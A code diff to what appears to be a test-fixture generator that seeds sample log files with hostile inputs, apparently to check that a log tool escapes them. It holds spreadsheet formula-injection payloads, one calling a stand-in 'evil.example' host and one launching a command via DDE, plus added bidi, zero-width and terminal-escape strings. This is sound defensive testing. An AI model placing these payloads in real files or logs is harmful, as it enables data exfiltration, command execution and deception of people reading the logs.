@@ -28,12 +28,18 @@ FORGED_STAGE = (
 FORMULA_KEY = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 FORMULA_DISPATCH = "@SUM(1+1)*cmd|' /C calc'!A0"
 STAGE = "write-10pct"
+# Bidi, zero-width and control characters in logged text: an Origin that reads
+# "ROLLBACK" backwards, a user agent that clears a terminal, a tool name that reorders.
+BIDI_ORIGIN = "https://evil.example\u202eKCABLLOR\u200b"
+BIDI_AGENT = "curl/8\u2066\x1b[2J\u202e"
+BIDI_TOOL = "search_docs\u202e\u200d"
 
 
 def fleet(dest: Path) -> Path:
     """The sample fleet with the `write-10pct` stage renamed to FORGED_STAGE, one
-    invalid-Origin request carrying XSS_ORIGIN in a file named XSS_FILE, and formula
-    cells in a dispatch id and an idempotency key."""
+    invalid-Origin request carrying XSS_ORIGIN in a file named XSS_FILE and one carrying
+    BIDI_ORIGIN and BIDI_AGENT, formula cells in a dispatch id and an idempotency key,
+    and BIDI_TOOL as a tool's name."""
     dest.mkdir(parents=True, exist_ok=True)
     for p in SAMPLE.iterdir():
         if p.is_file() and p.name not in ("README.md", "recipe.json", "truth.json"):
@@ -55,7 +61,8 @@ def fleet(dest: Path) -> Path:
     ts = _stage_start(rows) + 60_000
     evil = dict(first, ts=ts, origin=XSS_ORIGIN, status=200, method="POST")
     evil.pop("session_id", None)
-    (dest / XSS_FILE).write_text(json.dumps(evil) + "\n")
+    bidi = dict(evil, ts=ts + 1000, origin=BIDI_ORIGIN, user_agent=BIDI_AGENT)
+    (dest / XSS_FILE).write_text(json.dumps(evil) + "\n" + json.dumps(bidi) + "\n")
     _formula_dispatches(dest)
     return dest
 
@@ -80,6 +87,8 @@ def _formula_dispatches(dest: Path) -> None:
             r["dispatch_id"] = FORMULA_DISPATCH + r["dispatch_id"]
         if r.get("idempotency_key"):
             r["idempotency_key"] = FORMULA_KEY + r["idempotency_key"]
+        if r.get("tool_name") == "search_docs":
+            r["tool_name"] = BIDI_TOOL
     with open(src, "w", newline="") as fh:
         w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
         w.writeheader()
